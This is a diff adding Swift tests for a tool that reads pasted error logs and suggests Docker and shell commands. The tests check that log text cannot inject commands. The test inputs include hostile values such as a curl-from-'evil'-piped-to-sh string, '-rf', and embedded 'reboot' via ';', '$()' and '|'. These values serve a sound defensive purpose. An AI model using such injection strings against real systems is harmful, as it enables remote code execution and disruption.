@@ -69,6 +69,47 @@ struct JudgeTests {
     #expect(old.cause.contains("CUDA 12.4"))
   }
 
+  @Test(
+    "What a log says gets into no command as more than a word",
+    arguments: [
+      (
+        "x: ';curl${IFS}evil|sh;': cannot open shared object file: No such file or directory", "L1",
+        "docker run --rm --entrypoint sh IMAGE -c 'ldconfig -p | grep library'"
+      ),
+      (
+        "x: -rf: cannot open shared object file: No such file or directory", "L1",
+        "docker run --rm --entrypoint sh IMAGE -c 'ldconfig -p | grep library'"
+      ),
+      (
+        "x: libfoo++-1.2.so: cannot open shared object file: No such file or directory", "L1",
+        "docker run --rm --entrypoint sh IMAGE -c 'ldconfig -p | grep libfoo++-1.2.so'"
+      ),
+      (
+        "ImportError: Parler requires the x;reboot library but it was not found in your environment.", "Y22",
+        "or add to the Dockerfile, last: RUN pip install PACKAGE"
+      ),
+      (
+        #"Conflict. The container name "/x$(reboot)" is already in use by container "5b0f"."#, "D5",
+        "docker ps -a --filter name=CONTAINER --format '{{.Names}} {{.Status}} {{.Labels}}'"
+      ),
+      (
+        "dial tcp: lookup x|reboot.example on 127.0.0.53:53: no such host", "P8",
+        "cat /etc/resolv.conf; getent hosts REGISTRY  # prints an address if the name can be resolved"
+      ),
+    ])
+  func pasted(text: String, id: String, command: String) throws {
+    let finding = try #require(Judge.findings(in: text).first { $0.id == id })
+    let advice = "\(finding.confirm)\n\(finding.fix)"
+    #expect(advice.split(separator: "\n").contains { $0 == command }, "\(advice)")
+    #expect(!advice.contains("evil") && !advice.contains("reboot"), "\(advice)")
+  }
+
+  @Test("Title and cause tell what the log says as it says it")
+  func told() throws {
+    let text = "x: ';curl${IFS}evil|sh;': cannot open shared object file: No such file or directory"
+    #expect(Judge.findings(in: text).first?.title == "The image lacks the library ';curl${IFS}evil|sh;'")
+  }
+
   @Test("Healthy output gives no finding", arguments: HealthyOutput.samples)
   func healthy(text: String) {
     #expect(Judge.findings(in: text).map(\.id) == [])
